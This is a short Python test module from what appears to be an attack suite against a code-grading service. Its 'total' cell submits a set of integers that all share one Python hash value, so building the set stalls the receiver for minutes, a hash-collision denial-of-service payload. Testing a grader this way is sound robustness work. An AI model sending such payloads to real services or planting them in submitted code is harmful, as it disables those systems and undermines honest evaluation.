"""Reply with a set of numbers of one hash: building it would take minutes."""

from attacks.socket_writer import WRITER

CLASS = ("12", "16")
STOCK = "submission lost"
ALONE = True  # stock may wait for a garbled heartbeat for ever
PATIENCE = 12
KEEPS = 2
CELLS = {
    "greet": 'def greet(name):\n    return f"Hello, {name}!"',
    "first": WRITER,
    "total": """\
def total(numbers):
    send(reply({"set": [{"int": hex(i * (2**61 - 1))} for i in range(1, 200_000)]}))
    return -1.0
""",
}
